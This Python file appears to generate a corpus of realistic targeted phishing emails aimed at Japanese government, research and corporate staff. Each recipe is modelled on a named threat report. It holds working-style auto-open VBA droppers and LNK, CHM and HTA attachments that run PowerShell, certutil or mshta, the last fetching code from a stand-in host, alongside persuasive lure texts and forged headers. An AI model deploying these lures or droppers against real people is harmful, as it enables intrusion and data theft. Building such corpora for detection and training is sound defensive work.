"""Targeted mail to government, its agencies and those who advise it, 2011 to 2025."""
from recipe import Recipe, auth
from making import docx, pdf, program, zipped
from kit import Fat, Iso, Pe, Rar4, Rar5, agile, chm, docs, icons, lnk, office, partitioned, vhdx

ANEL_VBA = """Sub AutoOpen()
    Dim p, q: p = Environ("TEMP") & "\\"
    For Each q In ActiveDocument.Tables(1).Rows: Open p & q.Cells(1) & ".txt" For Output As #1: Print #1, q.Cells(2): Close #1: Next
    With CreateObject("WScript.Shell"): .Run "cmd /c certutil -decode " & p & "bun1.txt " & p & "SVU.txt", 0: End With
    With CreateObject("WScript.Shell"): .Run "cmd /c esentutl.exe /y " & p & "SVU.txt /d " & p & "SVU.exe /o", 0: End With
    ActiveDocument.Content.Font.ColorIndex = wdBlack
End Sub
"""
LODEINFO_VBA = """Private Sub Document_Open()
    Dim i As Long, s As String, b() As Byte
    For i = 0 To UserForm1.c.ListCount - 1: s = s & UserForm1.c.List(i): Next
    b = d64(s): Open Environ("ProgramData") & "\\prv4.tmp" For Binary As #2: Put #2, , b: Close #2
    GetObject("winmgmts:").Get("Win32_Process").Create "rundll32.exe " & Environ("ProgramData") & "\\prv4.tmp,main"
End Sub
"""
FLAGPRO_VBA = """Private Sub Workbook_Open()
    Dim f: f = Environ("APPDATA") & "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\dwm.exe"
    Open f For Binary As #1: Put #1, , ThisWorkbook.Worksheets("data").Range("A1").Value: Close #1
End Sub
"""
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def rar(*files):
    r = Rar5()
    for name, data in files:
        r.add(name, data)
    return r.bytes()


def trio(folder, exe, dll, data, company):
    """A genuine-looking signed program, a library that it loads from beside it, and ciphertext."""
    return [(folder + exe, Pe(stamp=0x54E00000).icon(icons.logo()).version(CompanyName=company, FileDescription=company + " Updater", OriginalFilename=exe).sign().bytes()),
            (folder + dll, Pe(dll=True, stamp=0x5B8A1000).bytes()), (folder + data, docs.noise(40000))]


RECIPES = [
    Recipe("t-advisory", "targeted",
           "IPA, analysis of 124 targeted mails, 2014: warnings on security as a lure; ScanNetSecurity 2015/01/14",
           "A warning in the name of a security agency, from free mail, with a tool that is said to find the infection.",
           "【注意喚起】標的型メールへの対応と感染確認について", "nisc.taiou@gmail.com", name="情報セキュリティ対策室", twin="b-it-advisory", to="joho-system@example.ac.jp",
           date="Mon, 15 Jun 2015 11:26:47 +0900",
           body="各機関 情報セキュリティ担当者 殿\n\n本月、複数の機関において不正な通信が確認されました。\n貴機関においても感染の有無を至急確認する必要がありますので、\n"
                "添付の確認ツールを管理者権限で実行し、結果を本日中にご報告ください。\n\n本件の取扱いは関係者限りとします。\n\n情報セキュリティ対策室\n",
           message_id="<CAB1xX9dQ2s0n@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com")],
           attach=[("感染確認ツール.zip", zipped(("感染確認ツール.exe", program(icons.logo(), 110000, FileDescription="Check Tool")), ("手順.txt", "1. 展開\r\n2. 管理者として実行\r\n".encode("cp932"))), "application/zip")]),

    Recipe("t-it-patch", "targeted", "J-CRAT, reports of 2015 and 2016; NPA 2014: mails in the name of the own IT section",
           "In the name of the own IT section, from a server abroad, with an update that nobody asked for.", "【至急】ブラウザ更新プログラムの適用について",
           "joho-system@example.ac.jp", name="情報システム課", twin="b-it-installer", hard=True, to="kenkyu-a@example.ac.jp",
           date="Wed, 06 Jul 2016 12:51:15 +0900",
           body="職員各位\n\n情報システム課です。\n\nブラウザに重大な脆弱性が見つかったため、本日中に更新プログラムの適用をお願いします。\n"
                "添付ファイルを展開して実行すると、自動的に適用されます。完了後の再起動は不要です。\n\n適用しない場合、明日からメールが利用できなくなります。\n\n情報システム課\n",
           client=("mail.school-district.example", "203.0.113.83"), message_id="<577C7F03.3020100@example.ac.jp>",
           headers=[("Return-Path", "<office2@school-district.example>"), auth("softfail", domain="example.ac.jp")],
           attach=[("update_0706.zip", zipped(("update_0706/BrowserUpdate.exe", program(icons.logo(), 140000, packed=True, FileDescription="Browser Update"))), "application/zip")]),

    Recipe("t-kenpo", "targeted", "Macnica, JPCERT/CC and newspapers, 2014 and 2015: Emdivi in notices of health insurance",
           "A notice of medical costs; the program is a self-extracting archive that shows a document and starts another program.",
           "医療費通知のお知らせ", "iryouhi-tsuchi@yahoo.co.jp", name="健康保険組合運営事務局", to="soumu@example.ac.jp", date="Tue, 11 Nov 2014 10:33:08 +0900",
           body="被保険者の皆様へ\n\n健康保険組合運営事務局です。\n平成26年4月から9月診療分の医療費通知をお送りします。\n確定申告の際に必要となりますので、ご確認の上、大切に保管してください。\n\n"
                "※内容についてのお問い合わせは、事務局までお願いします。\n",
           message_id="<634711.22841.bm@web100311.mail.example>",
           headers=[auth("pass", "pass", "none", "yahoo.co.jp"), ("X-Mailer", "YahooMailClassic")],
           attach=[("医療費通知のお知らせ.zip", zipped(("医療費通知のお知らせ.exe", Rar4().add("医療費通知.doc", office.doc(text="医療費通知")).add("kjview.exe", program(None, 60000)).comment(
               ";SFX\r\nSetup=kjview.exe\r\nSetup=医療費通知.doc\r\nPath=%temp%\r\nSilent=1\r\nOverwrite=1\r\n").bytes(prefix=program(icons.document(), 70000)))), "application/zip")]),

    Recipe("t-maritime", "targeted", "FireEye, September 2018: APT10 with locked Word files on maritime policy and diplomacy",
           "A locked Word file with macros on maritime policy; its password stands in the body.", "「自由で開かれたインド太平洋」に関する意見交換会資料",
           "ocean.policy.forum@gmail.com", name="海洋政策研究会", hard=True, to="kenkyu-a@example.ac.jp", charset="utf-8",
           date="Thu, 12 Jul 2018 17:02:48 +0900",
           body="先生\n\nいつもお世話になっております。海洋政策研究会の大城です。\n\n来週の意見交換会の資料がまとまりましたので、事前にお送りいたします。\n未公表の内容を含みますので、お取扱いにはご注意ください。\n\n"
                "{password}\n\nどうぞよろしくお願いいたします。\n\n大城\n",
           password_line="パスワード: kaiyo0712", message_id="<CAPw4vRz0iQ@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com")],
           attach=[("意見交換会資料.docm", agile(office.docm(ANEL_VBA, text="意見交換会資料\n海洋基本計画"), "kaiyo0712"), "application/msword")]),

    Recipe("t-ministry-free", "targeted", "FireEye and PwC, 2017: APT10 in the name of ministries, from free mail; side-loading trio",
           "A ministry's notice from free mail; in the rar lie a signed program, a library and data.", "国際会議への出席者名簿の提出について",
           "mofa.kokusai.kaigi@yahoo.co.jp", name="外務省 国際会議担当室", to="soumu@example.ac.jp", charset="iso-2022-jp",
           date="Fri, 20 Jan 2017 09:15:20 +0900",
           body="関係機関 ご担当者 様\n\n標記会議への貴機関からの出席予定者について、添付の名簿様式によりご提出願います。\n締切は1月27日(金)です。\n\n国際会議担当室\n",
           message_id="<20170120001520.5510.qmail@web55.mail.example>", headers=[auth("pass", "pass", "none", "yahoo.co.jp")],
           attach=[("出席者名簿.rar", rar(*trio("出席者名簿/", "出席者名簿.exe", "AvScnCfg.dll", "avscn.dat", "Example Antivirus Inc.")),
                    "application/x-rar-compressed")]),

    Recipe("t-lookalike", "targeted", "IPA and JPCERT/CC: domains that look like those of ministries; documents that fetch their template",
           "From a domain that looks like a ministry's; the document fetches its template from there.", "令和3年度補正予算に係る照会(回答様式)",
           "yosan@mof-go-jp.example", name="予算担当", hard=True, to="soumu@example.ac.jp", charset="utf-8",
           date="Thu, 02 Dec 2021 14:44:12 +0900",
           body="関係機関 経理ご担当者 様\n\n平素より大変お世話になっております。\n令和3年度補正予算に係る執行見込みについて照会いたします。\n"
                "添付の回答様式にご記入いただき、12月8日(水)17時までにご返信ください。該当がない場合もその旨ご回答願います。\n\nご多忙のところ恐縮ですが、よろしくお願いいたします。\n",
           client=("mta.mof-go-jp.example", "203.0.113.33"), message_id="<61a85f9c.1c69fb81.7a4f0@mof-go-jp.example>",
           headers=[auth("pass", "pass", "none", "mof-go-jp.example")],
           attach=[("回答様式.docx", office.docx_template("http://doc.mof-go-jp.example/t/yoshiki.dotm", text="執行見込み回答様式\n機関名"), "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]),

    Recipe("t-iso-dll", "targeted", "NTT Security, May 2022 (Operation RestyLink); Trend Micro on Earth Yako, February 2023",
           "An invitation to a meeting on policy; a disc image with a shortcut in a document's clothes and a hidden library.", "日米政策対話のご案内",
           "dialogue.secretariat@outlook.com", name="日米政策対話 事務局", twin="m-qakbot-iso", to="kenkyu-a@example.ac.jp", charset="utf-8",
           date="Wed, 20 Apr 2022 15:31:40 +0900",
           body="先生\n\nお世話になっております。日米政策対話事務局でございます。\n\n6月に開催される政策対話へのご招待状をお送りいたします。\nご出席の可否を5月10日までにお知らせください。\n\n事務局\n",
           message_id="<OS0PR01MB7781@OS0PR01MB7781.prod.mail.example>", headers=[auth("pass", "pass", "pass", "outlook.com")],
           attach=[("招待状.iso", Iso(volume="INVITE").add("招待状.docx.lnk", lnk("_\\wsc.dll,Run", "C:\\Windows\\System32\\rundll32.exe", icon="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                                                              show=7), primary=b"INVITE.LNK;1").add("_/wsc.dll", Pe(dll=True).bytes(), hidden=True).add(
               "_/招待状.docx", docx("招待状\n日米政策対話"), primary=b"_/INVITE.DOC;1", hidden=True).bytes(), "application/x-iso9660-image")]),

    Recipe("t-lnk-interview", "targeted", "Kaspersky, October 2022, and ESET, December 2022: LODEINFO to media, diplomacy and think-tanks",
           "A party's press section asks for the spread of videos; a shortcut in a locked zip.", "【お願い】短い動画の共有について",
           "kouhou.honbu@gmail.com", name="広報本部", twin="m-emotet-lnk", to="kenkyu-a@example.ac.jp", charset="utf-8",
           date="Wed, 29 Jun 2022 13:00:51 +0900",
           body="関係者各位\n\n平素よりご支援を賜り、厚く御礼申し上げます。広報本部です。\n\n選挙期間中、各種の動画を配信いたします。SNS での拡散にご協力ください。\n動画の一覧と掲載の手順を添付いたします。\n\n{password}\n",
           password_line="解凍用パスワードは 0710 です。", message_id="<CAD0mHq7L@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com")],
           attach=[("動画一覧.zip", zipped(("動画一覧.pdf.lnk", lnk("-ep bypass -w 1 -c \"gc '.\\動画一覧.pdf.lnk' | select -last 1 > $env:TEMP\\a; 'http://v.example.invalid'\"", POWERSHELL,
                                                                icon="C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", show=7, overlay=pdf("動画一覧"))), password="0710"), "application/zip")]),

    Recipe("t-lodeinfo-cv", "targeted",
           "JPCERT/CC, February 2020: LODEINFO; US embassy in Japan, July 2020: an applicant's CV from free mail, 16 mails in all",
           "An applicant's CV as a Word file with macros.", "職員募集への応募(履歴書送付)", "s.tokunaga1988@gmail.com", name="徳永 翔",
           to="jinji@example.ac.jp", charset="utf-8", hard=True, date="Tue, 18 Feb 2020 09:41:17 +0900",
           body="採用ご担当者様\n\n突然のご連絡、失礼いたします。徳永翔と申します。\n\n貴研究所のホームページで職員募集を拝見し、ぜひ応募させていただきたくご連絡いたしました。\n"
                "履歴書と職務経歴書を添付いたします。ご査収のほど、よろしくお願い申し上げます。\n\n徳永 翔\n090-0000-0000\n",
           message_id="<CAHu0cR5x@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com")],
           attach=[("履歴書・職務経歴書_徳永翔.doc", office.doc(LODEINFO_VBA, text="履歴書\n徳永 翔\n表示されない場合は「コンテンツの有効化」を押してください"), "application/msword")]),

    Recipe("t-vhd-recruit", "targeted", "JPCERT/CC, November 2024: APT-C-60 writes to recruiters; virtual disks with a shortcut",
           "An applicant sends the papers as a virtual disk with a shortcut, decoys and a script (attached here; the report's mails linked to it).",
           "応募書類の送付(研究補助職)", "mayumi.kurata.cv@gmail.com", name="倉田 真弓", twin="m-bumblebee-vhd", to="jinji@example.ac.jp", charset="utf-8",
           date="Wed, 28 Aug 2024 18:07:34 +0900",
           body="例示研究所 採用ご担当者様\n\n倉田真弓と申します。研究補助職の募集に応募いたします。\n応募書類一式をお送りいたします。ご不明な点がございましたら、このアドレスまでご連絡ください。\n\n倉田 真弓\n",
           message_id="<CAM5tfQ@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com")],
           attach=[("応募書類.vhdx", vhdx(partitioned(Fat(2048).add("自己紹介.lnk", lnk("/c git.exe cmd < read1.txt", "C:\\Windows\\System32\\cmd.exe", icon="imageres.dll", icon_index=97, show=7), short=b"INTRO   LNK").add(
               "read1.txt", b"copy /y pic.dat %TEMP%\\bootcfg.dat\r\n", attributes=0x22).add("CV.docx", docx("職務経歴書")).bytes())), "application/octet-stream")]),

    Recipe("t-taiwan-chinese", "targeted",
           "Trend Micro, 2012 to 2014: Taidoor and PLEAD against offices in Taiwan and those who write to them",
           "In Chinese, in Big5, to a scholar who works on Taiwan; a .scr under a document's name in a rar.", "檢送103年度學術交流會議議程",
           "secretary.lin@yahoo.com.tw", name="林秘書", to="kenkyu-a@example.ac.jp", charset="big5", date="Mon, 19 May 2014 14:22:30 +0800",
           body="老師您好:\n\n檢送本年度學術交流會議議程與名單,請查收附件,並於五月底前惠覆出席與否。\n\n敬祝 研安\n\n林秘書 敬上\n",
           message_id="<1400480550.90021.YahooMailClassic@web72.mail.example>", headers=[auth("pass", "pass", "none", "yahoo.com.tw")],
           attach=[("會議議程.rar", Rar4().add("meeting.scr", program(icons.document(), 80000), unicode="會議議程.doc.scr").bytes(), "application/x-rar-compressed")]),

    Recipe("t-kimsuky-blanks", "targeted", "JPCERT/CC, July 2024: Kimsuky against Japan; documents and a program with many blanks in a zip",
           "In the name of an organisation of security and diplomacy; between two documents lies a program whose end is far to the right.",
           "研究会資料(3月)", "kenkyukai@anpo-kenkyu.example", name="安全保障研究会", to="kenkyu-a@example.ac.jp", charset="utf-8",
           date="Fri, 22 Mar 2024 10:28:05 +0900",
           body="先生\n\n安全保障研究会です。3月研究会の資料をお送りします。\nアンケートは (1) にご記入の上、月末までにご返送ください。\n", client=("web12.sharedhost.example", "203.0.113.12"),
           message_id="<e8b4c0f7f0b4d7@anpo-kenkyu.example>",
           headers=[auth("softfail", domain="anpo-kenkyu.example"), ("X-Mailer", "PHPMailer 6.6.0")],
           attach=[("研究会資料.zip", zipped(("(1)アンケート.docx" + " " * 90 + ".exe", program(icons.document(), 90000)), ("(2)朝鮮半島情勢.docx", docx("朝鮮半島情勢")), ("(3)出席者.docx", docx("出席者"))), "application/zip")]),

    Recipe("t-chm-survey", "targeted", "JPCERT/CC, July 2024, on Kimsuky in Japan, and AhnLab on its compiled help",
           "A survey on nuclear policy as compiled help.", "核政策に関する意識調査のお願い", "survey.npt@naver.com", name="軍縮研究プロジェクト",
           to="kenkyu-a@example.ac.jp", charset="utf-8", date="Thu, 16 May 2024 17:16:43 +0900",
           body="先生\n\n軍縮研究プロジェクトの調査担当です。添付の調査票をご覧いただき、ご意見をお聞かせください。ヘルプ形式になっておりますが、ダブルクリックでお読みいただけます。\n",
           message_id="<7d2c9b10a55e@cweb09.nm.mail.example>", headers=[auth("pass", "pass", "pass", "naver.com")],
           attach=[("調査票.zip", zipped(("調査票.chm", chm([("index.html", ("<html><head><meta charset='utf-8'></head><body>調査票<object id='x' classid='clsid:52a2aaae-085d-4187-97ea-8c30db990436'>"
                    "<param name='Command' value='ShortCut'><param name='Item1' value=',cmd,/c echo T24gRXJyb3I= > %USERPROFILE%\\Links\\a.dat & certutil -decode %USERPROFILE%\\Links\\a.dat %USERPROFILE%\\Links\\a.vbs'>"
                    "</object><script>x.Click();</script></body></html>").encode())]))), "application/zip")]),

    Recipe("t-hta-visit", "targeted", "MITRE ATT&CK T1218.005, procedures of SideWinder and Kimsuky: .hta in mail to governments",
           "A visit's schedule in English with an .hta beside a genuine PDF.", "Schedule for the delegation's visit to Tokyo",
           "protocol.section@mail-embassy.example", name="Protocol Section", to="soumu@example.ac.jp", charset="utf-8",
           date="Tue, 05 Mar 2019 09:12:27 +0100",
           body="Dear Sir or Madam,\n\nWith reference to the upcoming visit of our delegation to your Institute on 19 March, please find enclosed the draft schedule and the list of participants.\n"
                "We would be grateful for your comments by Friday.\n\nWith kind regards,\nProtocol Section\n",
           client=("mx1.mail-embassy.example", "203.0.113.47"), message_id="<5c7e2f1b.90@mail-embassy.example>",
           headers=[auth("pass", "none", "none", "mail-embassy.example")],
           attach=[("Schedule.zip", zipped(("List of participants.pdf", pdf("LIST OF PARTICIPANTS")), ("Schedule.hta", b"<html><script language=\"vbscript\">\r\nwindow.resizeTo 0,0\r\n"
                    b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"mshta http://e.example.invalid/s\", 0\r\nself.close\r\n</script></html>")), "application/zip")]),

    Recipe("t-xlsm-flagpro", "targeted",
           "NTT Security, October 2021: Flagpro of BlackTech; locked archives with macro sheets, password in the body",
           "A mail written for one firm that sounds like its partner; a locked zip with a workbook that drops a program.",
           "打ち合わせ資料の送付(10/14)", "yamabe@denshi-partner.example", name="山辺", hard=True, to="koubai@example.co.jp", charset="utf-8",
           date="Mon, 11 Oct 2021 18:50:02 +0900",
           body="山根様\n\nお世話になっております。電子パートナーの山辺です。\n\n14日の打ち合わせの資料をお送りいたします。\n御社の見積条件を2枚目のシートに反映しましたので、マクロを有効にしてご確認ください。\n\n{password}\n\n山辺\n",
           password_line="パスワード:1014dp", client=("webmail.ryokan.example", "203.0.113.196"),
           message_id="<20211011185002.Horde.7cZ1@webmail.ryokan.example>",
           headers=[("Return-Path", "<info@ryokan.example>"), auth("pass", domain="ryokan.example"), ("User-Agent", "Horde Application Framework 5")],
           attach=[("打ち合わせ資料.zip", zipped(("打ち合わせ資料_1014.xlsm", office.xlsm(FLAGPRO_VBA, text="見積条件\n打ち合わせ資料")), password="1014dp"), "application/zip")]),
]
